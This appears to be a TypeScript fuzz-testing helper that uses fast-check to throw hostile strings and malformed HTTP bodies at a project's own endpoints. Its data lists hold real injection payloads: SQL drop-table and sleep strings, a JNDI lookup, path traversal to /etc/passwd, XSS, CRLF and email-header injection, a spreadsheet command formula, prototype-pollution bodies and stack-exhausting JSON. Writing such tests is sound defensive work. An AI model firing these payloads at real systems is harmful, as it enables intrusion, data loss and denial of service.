import fc from "fast-check";
import { timeField, trapField } from "#lib/submission.ts";
import type { Sample } from "./endpoints.ts";

/** Texts that have broken something somewhere: encodings, SQL, templates, paths, formats, directions. */
export const hostileTexts = [
	"\0",
	"a\0b",
	"\ud800",
	"\udfff\ud800",
	"\u202e\u2066evil",
	"\ufeff\ufffe\uffff",
	"🏳️‍🌈".repeat(500),
	"́".repeat(2_000),
	"' or 1=1; drop table profiles; --",
	"\\'; select pg_sleep(5); --",
	// biome-ignore-start lint/suspicious/noTemplateCurlyInString: other languages fill these in
	"$1 $$ ${7*7} {{7*7}} <%= 7*7 %> #{7*7} %s%n %00",
	"${jndi:ldap://x.example/a}",
	// biome-ignore-end lint/suspicious/noTemplateCurlyInString: other languages fill these in
	"../../../../etc/passwd",
	"..\\..\\windows\\win.ini",
	"<script>alert(1)</script><img src=x onerror=alert(1)>",
	"javascript:alert(1)",
	"\r\nSet-Cookie: a=b\r\n\r\n",
	"=cmd|' /C calc'!A0",
	"__proto__",
	"constructor",
	"toString",
	"9999999999999999999999",
	"-1",
	"1e999",
	"NaN",
	"0x1F",
	"275760-09-13T00:00:00.000Z",
	"+275760-09-14",
	"0000-00-00",
	"0000-01-01",
	"0000-01-01T00:00:00.000Z",
	"0000-01-01T00:00:00.000Z~00000000-0000-4000-8000-000000000000",
	"0001-01-01T00:00:00.000+23:59",
	"9999-12-31T23:59:59.999-23:59",
	"9999-12-31T23:59:59.999Z",
	"2026-02-30",
	"2026-03-04T15:00:00.000Z",
	"00000000-0000-0000-0000-000000000000",
	"{00000000-0000-4000-8000-000000000000}",
	"(((((((((((((((a+)+)+)+)+)+)+)+)+)+)+)+)+)+)+)!",
	"a@b.example\r\nBcc: c@d.example",
	`${"a".repeat(64)}@${"b.".repeat(120)}example`,
	"x".repeat(100_000),
	"\n".repeat(20_000),
	"https://www.youtube.com/embed/../../x",
];

/** Whatever JSON has beside text, where text belongs; written out, because the deep ones cannot be made from values. */
export const hostileJson = [
	'{"toString":1,"valueOf":1}',
	'{"length":1,"trim":{}}',
	"[]",
	'["x"]',
	"0",
	"1e999",
	"true",
	"false",
	// Deep enough to end the stack of whoever walks it, and small enough for every limit of a body.
	"[".repeat(20_000) + "]".repeat(20_000),
	`${'{"a":'.repeat(15_000)}1${"}".repeat(15_000)}`,
];

const text = fc.oneof(fc.constantFrom(...hostileTexts), fc.string({ unit: "binary", maxLength: 300 }));

const scalar = fc.oneof(
	{ weight: 4, arbitrary: text },
	fc.constantFrom(null, true, false, 0, -0, -1, 0.1, 1e21, 1e308, -1e308, 5e-324, 2 ** 31, 2 ** 53, 2 ** 63),
	fc.double({ noNaN: true, noDefaultInfinity: true }),
	fc.integer(),
);

const value = fc.oneof(
	{ weight: 5, arbitrary: scalar },
	fc.array(scalar, { maxLength: 5 }),
	fc.constant(Array.from({ length: 5_000 }, () => "x")),
	fc.dictionary(fc.oneof(text, fc.constantFrom("__proto__", "constructor", "length")), scalar, { maxKeys: 4 }),
	fc.array(fc.dictionary(fc.constantFrom("description", "quantity", "unit_price", "id"), scalar), { maxLength: 3 }),
);

/** Bodies that are not what a client of ours would ever write. */
const rawBodies = [
	"",
	"null",
	"[]",
	'"text"',
	"{",
	'{"a":',
	"{}",
	"[".repeat(50_000),
	`${'{"a":'.repeat(20_000)}1${"}".repeat(20_000)}`,
	'{"__proto__":{"role":"admin"},"constructor":{"prototype":{"role":"admin"}}}',
	'{"status":1e999,"email":-1e999,"limit":1e999}',
	'{"email":"\\ud800","title":"\\u0000","name":"\\udfff"}',
	`{"message":"${"x".repeat(1_000_000)}"}`,
	`{${Array.from({ length: 20_000 }, (_, index) => `"k${index}":0`).join()}}`,
	"\0\0\0\0",
	"--x\r\nContent-Disposition: form-data; name=a\r\n\r\n",
	'--x\r\nContent-Disposition: form-data; name="resume"; filename="a.pdf"\r\n\r\n%PDF-1.4\r\n--x--\r\n',
	'--x\r\nContent-Disposition: form-data; name="resume"; filename="../../a\0.pdf"\r\nContent-Length: -1\r\n\r\n\r\n--x',
	`--x\r\n${"A: b\r\n".repeat(5_000)}\r\n\r\n--x--\r\n`,
];
const contentTypes = [
	"application/json",
	"application/json; charset=utf-16",
	"application/x-www-form-urlencoded",
	"multipart/form-data",
	"multipart/form-data; boundary=x",
	`multipart/form-data; boundary=${"x".repeat(500)}`,
	"text/plain",
	"application/xml",
	"",
	'application/json, text/html; q="',
];

export type HostileRequest = {
	/** Put in place of the path's ids; undefined keeps those of rows that exist. */
	id: string | undefined;
	query: [string, string][];
	content: { body: string | FormData; type: string | undefined } | undefined;
};

/** Requests around one that would be right: a few of its fields replaced, some added, its path and its query bent. */
export function hostileRequest(method: string, sample: Sample | undefined): fc.Arbitrary<HostileRequest> {
	return fc.record({
		id: fc.option(fc.oneof(text, fc.uuid()), { nil: undefined, freq: 3 }),
		query: fc.array(fc.tuple(queryName, queryValue), { maxLength: 3 }),
		content: method === "GET" ? fc.constant(undefined) : content(sample),
	});
}

const queryName = fc.oneof(
	fc.constantFrom("limit", "before", "since", "updated_since", "id", "table", "q", "type", "token", "grant_type"),
	fc.constantFrom("redirect_to", "scope", "email", "from", "to", "status", "__proto__"),
	text,
);
const queryValue = fc.oneof(text, fc.constantFrom("1", "0", "200", "1e9", "password", "refresh_token", "signup"));

function content(sample: Sample | undefined): fc.Arbitrary<NonNullable<HostileRequest["content"]>> {
	const raw = fc.record({ body: fc.constantFrom(...rawBodies), type: fc.constantFrom(...contentTypes) });
	const shaped = typeof sample === "function" ? bentForm(sample) : bentJson(typeof sample === "object" ? sample : {});
	return fc.oneof({ weight: 1, arbitrary: raw }, { weight: 4, arbitrary: shaped });
}

function bentJson(sample: Record<string, unknown>) {
	const name = fc.oneof({ weight: 6, arbitrary: fc.constantFrom("a", ...Object.keys(sample)) }, text);
	return fc
		.dictionary(name, value, { maxKeys: 4 })
		.map((bent) => ({ body: JSON.stringify({ ...sample, ...bent }), type: "application/json" }));
}

/** What the pages themselves put into public forms. */
const pageFields = [trapField, timeField];

function bentForm(sample: () => FormData) {
	const file = fc.uint8Array({ maxLength: 2_000 }).map((bytes) => new File([new Uint8Array(bytes)], "a.pdf"));
	const name = fc.constantFrom(...sample().keys(), ...pageFields, "status", "id");
	return fc.array(fc.tuple(name, fc.oneof(text, file), text), { maxLength: 4 }).map((bent) => {
		const form = sample();
		for (const [field, bentValue, fileName] of bent) {
			if (typeof bentValue === "string") form.set(field, bentValue);
			else form.set(field, bentValue, fileName);
		}
		return { body: form, type: undefined };
	});
}
